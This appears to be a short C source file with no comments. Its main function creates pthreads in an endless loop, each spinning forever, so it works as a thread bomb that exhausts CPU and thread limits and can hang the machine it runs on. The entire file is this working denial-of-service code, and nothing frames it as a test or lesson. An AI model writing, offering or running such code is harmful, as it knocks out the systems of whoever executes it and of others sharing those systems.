#include <pthread.h>
#include <unistd.h>
static void *spin(void *none) { for (;;) {} return none; }
int main(void) { pthread_t t; for (;;) pthread_create(&t, NULL, spin, NULL); }
